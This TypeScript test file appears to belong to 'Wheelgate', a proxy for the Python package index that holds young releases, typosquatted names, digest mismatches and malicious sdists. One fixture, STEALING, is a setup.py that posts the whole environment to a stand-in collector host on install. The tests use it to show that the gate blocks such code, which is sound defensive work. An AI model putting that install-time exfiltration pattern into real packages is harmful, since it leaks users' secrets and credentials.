import assert from 'node:assert/strict';
import { existsSync, readdirSync } from 'node:fs';
import { after, before, test } from 'node:test';
import { aSdist, aSdistName } from '../builders/a-sdist.ts';
import { aWheel, aWheelName } from '../builders/a-wheel.ts';
import { type FakeIndex, startFakeIndex } from '../fakes/fake-index.ts';
import { noPip, pip, pipInstall } from './pip.ts';
import { runWheelgate, type StartedGate, startGate } from './start-gate.ts';

const DAY = 86_400_000;
const daysAgo = (days: number) => new Date(Date.now() - days * DAY);

/** Never run: the tests only ask for the file. */
const STEALING = `import os, urllib.request
from setuptools import setup
urllib.request.urlopen('https://collector.example.invalid/', data=str(dict(os.environ)).encode())
setup()
`;

let upstream: FakeIndex;
let gate: StartedGate;

function addWheel(project: string, version: string, days: number, over: Parameters<typeof aWheel>[0] = {}): string {
  const options = { project, version, ...over };
  return upstream.addFile(project, aWheelName(options), aWheel(options), { uploadTime: daysAgo(days) }).sha256;
}

function download(requirement: string): ReturnType<typeof pip> {
  return pip(gate.indexUrl, 'download', '--no-deps', '--dest', '/tmp', requirement);
}

before(async () => {
  upstream = await startFakeIndex();
  addWheel('alpha', '1.0', 300);
  addWheel('alpha', '1.1', 30);
  addWheel('alpha', '2.0', 2);
  addWheel('beta', '1.0', 100, { requires: ['alpha>=1'] });
  addWheel('young-only', '1.0', 1);
  addWheel('reqeusts', '2.0', 100);
  const sdist = { project: 'source-only', version: '1.0' };
  upstream.addFile('source-only', aSdistName(sdist), aSdist(sdist), { uploadTime: daysAgo(100) });
  const stealing = { project: 'stealing', version: '1.0', setup: STEALING };
  upstream.addFile('stealing', aSdistName(stealing), aSdist(stealing), { uploadTime: daysAgo(100) });
  addWheel('growing', '1.0', 100);
  addWheel('growing', '1.1', 50, {
    files: { 'growing/__init__.py': 'import subprocess\nsubprocess.run(["uname"])\n' },
  });
  gate = await startGate({ upstream: upstream.simpleUrl });
});
after(async () => {
  await gate?.stop();
  await upstream?.stop();
});

test('a range falls back to the newest release that the cooldown lets in', { skip: noPip }, async () => {
  const { code, output, target } = await pipInstall(gate.indexUrl, 'beta');
  assert.equal(code, 0, output);
  assert.match(output, /Successfully installed alpha-1\.1 beta-1\.0/);
  assert.ok(readdirSync(target).includes('alpha-1.1.dist-info'));
});

test('a pinned young release fails with the reason and the link on screen', { skip: noPip }, async () => {
  const { code, output } = await pipInstall(gate.indexUrl, 'alpha==2.0');
  assert.notEqual(code, 0);
  const url = `${gate.url}/r/alpha/2.0`.replaceAll('.', '\\.');
  assert.match(
    output,
    new RegExp(`403 Client Error: held by Wheelgate: uploaded 2 days ago, cooldown ends \\S+.*${url}`),
  );
});

test('a project with nothing but young releases fails with the reason, not with silence', { skip: noPip }, async () => {
  const { code, output } = await pipInstall(gate.indexUrl, 'young-only');
  assert.notEqual(code, 0);
  assert.match(output, /403 Client Error: held by Wheelgate: uploaded 24 hours ago, cooldown ends/);
});

test('a lookalike of a popular name is held', { skip: noPip }, async () => {
  const { code, output } = await pipInstall(gate.indexUrl, 'reqeusts');
  assert.notEqual(code, 0);
  assert.match(output, /held by Wheelgate: the name is one letter away from "requests"/);
});

test('an sdist whose code was read and is quiet is let in', { skip: noPip }, async () => {
  const { code, output } = await download('source-only');
  // pip builds metadata of an sdist on download, for which it may lack setuptools here: the gate's answer is what counts.
  assert.doesNotMatch(output, /by Wheelgate/);
  assert.match(output, /source_only-1\.0\.tar\.gz/, `exit code ${code}`);
});

test('an sdist that sends the environment away is blocked before anything of it runs', { skip: noPip }, async () => {
  const { code, output } = await download('stealing');
  assert.notEqual(code, 0);
  assert.match(output, /blocked by Wheelgate: the code .* when it is installed/);
});

test('an update that can do more than the approved release is held, and says against what', {
  skip: noPip,
}, async () => {
  assert.equal((await pipInstall(gate.indexUrl, 'growing==1.0')).code, 0);
  const { code, output } = await pipInstall(gate.indexUrl, 'growing==1.1');
  assert.notEqual(code, 0);
  assert.match(output, /held by Wheelgate: unlike 1\.0, /);
  assert.equal((await pipInstall(gate.indexUrl, 'growing')).code, 0);
});

test('approving a held release makes the same command pass while the gate runs', { skip: noPip }, async () => {
  const approve = await runWheelgate(['approve', 'pkg:pypi/young-only@1.0', '--reason', 'read it'], {
    WHEELGATE_DATA: gate.data,
    WHEELGATE_UPSTREAM: upstream.simpleUrl,
  });
  assert.equal(approve.code, 0, approve.err);
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  const { code, output } = await pipInstall(gate.indexUrl, 'young-only');
  assert.equal(code, 0, output);
});

test('a revoked release leaves the page and is refused at its file', { skip: noPip }, async () => {
  const sha256 = addWheel('gamma', '1.0', 100);
  addWheel('gamma', '1.1', 100);
  assert.equal((await pipInstall(gate.indexUrl, 'gamma==1.0')).code, 0);
  const revoke = await runWheelgate(['revoke', sha256, '--reason', 'drill'], {
    WHEELGATE_DATA: gate.data,
    WHEELGATE_UPSTREAM: upstream.simpleUrl,
  });
  assert.equal(revoke.code, 0, revoke.err);
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  const page = await (await fetch(`${gate.indexUrl}gamma/`)).text();
  assert.doesNotMatch(page, /gamma-1\.0-/);
  assert.match(page, /gamma-1\.1-/);
  const file = await fetch(
    `${gate.url}/packages/${sha256.slice(0, 2)}/${sha256.slice(2, 4)}/${sha256.slice(4)}/gamma-1.0-py3-none-any.whl`,
  );
  assert.equal(file.status, 403);
  assert.match(file.statusText, /blocked by Wheelgate: revoked here as malicious/);
});

test('bytes that differ from the promised digest are refused with the reason', { skip: noPip }, async () => {
  const options = { project: 'swapped', version: '1.0' };
  const { path } = upstream.addFile('swapped', aWheelName(options), aWheel(options), { uploadTime: daysAgo(100) });
  upstream.replaceBytes(path, aWheel({ ...options, files: { 'swapped/__init__.py': 'EVIL = 1\n' } }));
  const { code, output } = await pipInstall(gate.indexUrl, 'swapped');
  assert.notEqual(code, 0);
  assert.match(output, /blocked by Wheelgate: upstream sent other bytes than the sha256 it promised/);
});

test('what was installed once installs with the upstream gone, after a restart too', { skip: noPip }, async () => {
  const own = await startFakeIndex();
  const options = { project: 'delta', version: '1.0' };
  own.addFile('delta', aWheelName(options), aWheel(options), { uploadTime: daysAgo(100) });
  const first = await startGate({ upstream: own.simpleUrl });
  assert.equal((await pipInstall(first.indexUrl, 'delta')).code, 0);
  const upstreamUrl = own.simpleUrl;
  await own.stop();
  assert.equal((await pipInstall(first.indexUrl, 'delta')).code, 0);
  await first.kill();
  const second = await startGate({ upstream: upstreamUrl, data: first.data });
  try {
    const started = Date.now();
    assert.equal((await fetch(`${second.indexUrl}delta/`)).status, 200);
    assert.ok(Date.now() - started < 5_000, 'a stored page must not wait for a dead upstream');
    assert.equal((await pipInstall(second.indexUrl, 'delta')).code, 0);
    const unknown = await fetch(`${second.indexUrl}never-seen/`);
    assert.equal(unknown.status, 503);
  } finally {
    await second.stop();
  }
});

test('the audit log of all this verifies', async () => {
  const { code, out } = await runWheelgate(['verify-log'], {
    WHEELGATE_DATA: gate.data,
    WHEELGATE_UPSTREAM: upstream.simpleUrl,
  });
  assert.equal(code, 0, out);
  assert.match(out, /whole: [1-9]\d* events/);
  assert.ok(existsSync(gate.data));
});
